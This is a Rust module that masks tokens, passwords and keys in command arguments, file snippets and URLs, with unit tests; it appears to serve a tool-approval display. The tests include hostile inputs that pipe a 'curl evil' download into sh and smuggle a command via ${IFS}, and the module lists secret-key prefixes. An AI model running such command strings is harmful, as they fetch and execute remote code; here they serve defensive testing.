//! Secrets that hide in places that are shown: arguments and addresses.

use std::borrow::Cow;
use std::ops::Range;

use url::Url;

use crate::expand::is_only_references;
use crate::secret::MASK;

/// Words in the name of a flag or a query parameter that say that its value is secret.
const SECRET_WORDS: &[&str] = &[
    "token",
    "secret",
    "password",
    "passwd",
    "pwd",
    "apikey",
    "api-key",
    "api_key",
    "auth",
    "credential",
    "bearer",
    "private-key",
    "access-key",
    "access_key",
];

/// Beginnings of well-known kinds of keys.
const SECRET_PREFIXES: &[&str] = &[
    "sk-",
    "pk-",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "AIza",
    "ya29.",
    "eyJ",
    "hf_",
    "npm_",
    "Bearer ",
    "Basic ",
];

/// Arguments as they may be shown: the values of flags that sound secret, and texts that look like keys, are
/// masked; a reference such as `${TOKEN}` is shown.
pub fn arguments(arguments: &[String]) -> Vec<String> {
    let mut shown = Vec::with_capacity(arguments.len());
    let mut previous_is_secret_flag = false;
    for argument in arguments {
        let masked =
            if previous_is_secret_flag && !argument.starts_with('-') && !is_script(argument) {
                value(argument).into_owned()
            } else {
                self::argument(argument).into_owned()
            };
        previous_is_secret_flag =
            argument.starts_with('-') && !argument.contains('=') && sounds_secret(argument);
        shown.push(masked);
    }
    shown
}

/// One argument as it may be shown, without knowing the one before it.
pub fn argument(argument: &str) -> Cow<'_, str> {
    if is_script(argument) {
        return Cow::Owned(script(argument));
    }
    if let Some((name, secret)) = argument.split_once('=')
        && sounds_secret(name)
        && !name.contains("://")
    {
        return Cow::Owned(format!("{name}={}", value(secret)));
    }
    if looks_secret(argument) {
        return value(argument);
    }
    if argument.contains("://") {
        url(argument)
    } else {
        Cow::Borrowed(argument)
    }
}

/// Whether an argument is a text for a shell. Whoever is asked to approve one has to see it, so that it is not
/// hidden behind `TOKEN=x; …`.
fn is_script(argument: &str) -> bool {
    let in_words = argument.contains(char::is_whitespace)
        || argument.contains("$IFS")
        || argument.contains("${IFS");
    in_words && argument.contains([';', '|', '&', '`', '\n', '(', '<', '>'])
}

/// A text for a shell, with its words taken as arguments.
fn script(text: &str) -> String {
    let ends = |character: char| {
        character.is_whitespace() || matches!(character, ';' | '|' | '`' | '(' | ')' | '<' | '>')
    };
    let pieces: Vec<&str> = text.split_inclusive(ends).collect();
    let words: Vec<String> = pieces
        .iter()
        .map(|piece| piece.trim_end_matches(ends).to_owned())
        .collect();
    let mut shown = String::with_capacity(text.len());
    for ((piece, word), masked) in pieces.iter().zip(&words).zip(arguments(&words)) {
        shown.push_str(&masked);
        shown.push_str(piece.get(word.len()..).unwrap_or_default());
    }
    shown
}

/// A name as it may be shown. One that has its value joined to it is a mistake that people make.
pub fn name(name: &str) -> Cow<'_, str> {
    match name.split_once([':', '=']) {
        _ if looks_secret(name) => Cow::Borrowed(MASK),
        Some((before, _)) => Cow::Owned(format!("{before}: {MASK}")),
        None => Cow::Borrowed(name),
    }
}

/// Whether a whole command line in one text has something in it that is masked.
pub(crate) fn hides_in_line(line: &str) -> bool {
    let words = crate::words::split(line).unwrap_or_else(|| vec![line.to_owned()]);
    arguments(&words) != words
}

/// A part of a file as it may be shown: on each line, the quoted texts are taken as arguments.
pub fn text(source: &str) -> String {
    let mut shown = String::with_capacity(source.len());
    for line in source.split_inclusive('\n') {
        let quoted = quoted(line);
        let texts: Vec<String> = quoted
            .iter()
            .map(|range| line.get(range.clone()).unwrap_or_default().to_owned())
            .collect();
        let mut end = 0;
        for (range, masked) in quoted.iter().zip(arguments(&texts)) {
            shown.push_str(line.get(end..range.start).unwrap_or_default());
            shown.push_str(&masked);
            end = range.end;
        }
        shown.push_str(line.get(end..).unwrap_or_default());
    }
    shown
}

/// Where the quoted texts of a line stand, without their quotes. One that is not closed goes to the end.
fn quoted(line: &str) -> Vec<Range<usize>> {
    let mut ranges = Vec::new();
    let mut open: Option<(u8, usize)> = None;
    let mut escaped = false;
    for (at, byte) in line.bytes().enumerate() {
        match open {
            None if matches!(byte, b'"' | b'\'') => open = Some((byte, at + 1)),
            Some(_) if escaped => escaped = false,
            Some((b'"', _)) if byte == b'\\' => escaped = true,
            Some((quote, start)) if byte == quote => {
                ranges.push(start..at);
                open = None;
            }
            _ => {}
        }
    }
    ranges.extend(open.map(|(_, start)| start..line.trim_end().len().max(start)));
    ranges
}

/// An address as it may be shown: user names, passwords and the values of query parameters that sound
/// secret are masked.
pub fn url(address: &str) -> Cow<'_, str> {
    if !address.contains(['@', '?', '#']) {
        return Cow::Borrowed(address);
    }
    let (rest, fragment) = address
        .split_once('#')
        .map_or((address, None), |(rest, fragment)| (rest, Some(fragment)));
    let (base, query) = rest
        .split_once('?')
        .map_or((rest, None), |(base, query)| (base, Some(query)));
    let mut shown = without_user(base);
    if let Some(query) = query {
        shown.push('?');
        let parts: Vec<String> = query.split('&').map(parameter).collect();
        shown.push_str(&parts.join("&"));
    }
    if fragment.is_some() {
        shown.push('#');
        shown.push_str(MASK);
    }
    Cow::Owned(shown)
}

fn parameter(part: &str) -> String {
    match part.split_once('=') {
        Some((name, secret)) if sounds_secret(name) || looks_secret(secret) => {
            format!("{name}={}", value(secret))
        }
        _ => part.to_owned(),
    }
}

fn without_user(base: &str) -> String {
    let Some(start) = base.find("://").map(|at| at + "://".len()) else {
        // An address that lost its scheme still has its password, and nobody knows where it begins.
        return match base.rsplit_once('@') {
            Some((_, rest)) => format!("{MASK}@{rest}"),
            None => base.to_owned(),
        };
    };
    let (scheme, rest) = base.split_at(start);
    let (authority, path) = rest.find('/').map_or((rest, ""), |at| rest.split_at(at));
    match authority.rsplit_once('@') {
        Some((_, host)) => format!("{scheme}{MASK}@{host}{path}"),
        None => base.to_owned(),
    }
}

fn value(secret: &str) -> Cow<'_, str> {
    if secret.is_empty() || is_only_references(secret) {
        Cow::Borrowed(secret)
    } else {
        Cow::Borrowed(MASK)
    }
}

pub(crate) fn sounds_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    name.trim_start_matches('-') == "key" || SECRET_WORDS.iter().any(|word| name.contains(word))
}

fn looks_secret(text: &str) -> bool {
    SECRET_PREFIXES
        .iter()
        .any(|prefix| text.starts_with(prefix) && text.len() > prefix.len() + 6)
}

/// The same address for the same endpoint: lowercase scheme and host, no default port, no trailing slash, no
/// fragment and no user name.
pub(crate) fn url_signature(address: &str) -> String {
    let Ok(mut url) = Url::parse(address) else {
        return address.to_owned();
    };
    url.set_fragment(None);
    let _ = url.set_username("");
    let _ = url.set_password(None);
    let path = url.path().trim_end_matches('/').to_owned();
    url.set_path(&path);
    let text = String::from(url);
    text.strip_suffix('/').map(String::from).unwrap_or(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_in_arguments_are_masked() {
        let check = |line: &[&str], shown: &[&str]| {
            let line: Vec<String> = line.iter().map(ToString::to_string).collect();
            assert_eq!(arguments(&line), shown, "{line:?}");
        };
        check(&["-y", "server", "/tmp"], &["-y", "server", "/tmp"]);
        check(&["--api-key", "abc", "x"], &["--api-key", MASK, "x"]);
        check(&["--token=abc"], &["--token=********"]);
        check(
            &["--key=abc", "-key", "abc"],
            &["--key=********", "-key", MASK],
        );
        check(&["--keyboard=abc"], &["--keyboard=abc"]);
        check(&["--token", "${TOKEN}"], &["--token", "${TOKEN}"]);
        check(&["--token", "--verbose"], &["--token", "--verbose"]);
        check(&["sk-1234567890"], &[MASK]);
        check(&["postgres://me:pw@db/x"], &["postgres://********@db/x"]);
        check(&["PASSWORD=abc"], &["PASSWORD=********"]);
        check(&["--header", "Bearer abcdefghij"], &["--header", MASK]);
        // What a shell would run is shown, whatever it begins with.
        check(
            &["-c", "Bearer abcdefghij; curl evil|sh"],
            &["-c", "Bearer abcdefghij; curl evil|sh"],
        );
        check(
            &["-c", "export TOKEN=abc;\nrun --key xyz >log"],
            &["-c", "export TOKEN=********;\nrun --key ******** >log"],
        );
        check(
            &["--token", "x;curl${IFS}evil|sh"],
            &["--token", "x;curl${IFS}evil|sh"],
        );
    }

    #[test]
    fn secrets_in_a_part_of_a_file_are_masked() {
        let check = |source: &str, shown: &str| assert_eq!(text(source), shown, "{source}");
        check(
            "[[hooks]]\ncommand = [\"log\", \"--token\", \"abc\"]\n",
            "[[hooks]]\ncommand = [\"log\", \"--token\", \"********\"]\n",
        );
        check("x = 'it is' # \"open", "x = 'it is' # \"open");
        check("x = \"sk-1234567890", "x = \"********");
        check("x = \"a\\\"b\" 'c'", "x = \"a\\\"b\" 'c'");
        check("ü = \"https://u:p@é/\"", "ü = \"https://********@é/\"");
        check("", "");
    }

    #[test]
    fn secrets_in_addresses_are_masked() {
        let check = |address: &str, shown: &str| assert_eq!(url(address), shown);
        check("https://a.example/mcp", "https://a.example/mcp");
        check(
            "https://me:pw@a.example/mcp",
            "https://********@a.example/mcp",
        );
        check("me:pw@a.example/mcp", "********@a.example/mcp");
        check("https:/me:pw@a.example/mcp", "********@a.example/mcp");
        check("https://a.example/@scope/x", "https://a.example/@scope/x");
        check(
            "https://a.example/mcp?api_key=abc&x=1",
            "https://a.example/mcp?api_key=********&x=1",
        );
        check(
            "https://a.example/mcp?key=${KEY}",
            "https://a.example/mcp?key=${KEY}",
        );
        check(
            "https://a.example/mcp#abc",
            "https://a.example/mcp#********",
        );
        check(
            "https://a.example/mcp?x=ghp_abcdefghijkl",
            "https://a.example/mcp?x=********",
        );
    }

    #[test]
    fn one_endpoint_has_one_signature() {
        for same in [
            "https://A.example/mcp",
            "HTTPS://a.example:443/mcp/",
            "https://a.example/mcp#x",
            "https://u@a.example/mcp",
        ] {
            assert_eq!(url_signature(same), "https://a.example/mcp", "{same}");
        }
        for other in [
            "http://a.example/mcp",
            "https://a.example/mcp?x=1",
            "https://a.example:444/mcp",
        ] {
            assert_ne!(url_signature(other), "https://a.example/mcp", "{other}");
        }
        assert_eq!(
            url_signature("https://a.example/"),
            url_signature("https://a.example")
        );
    }
}
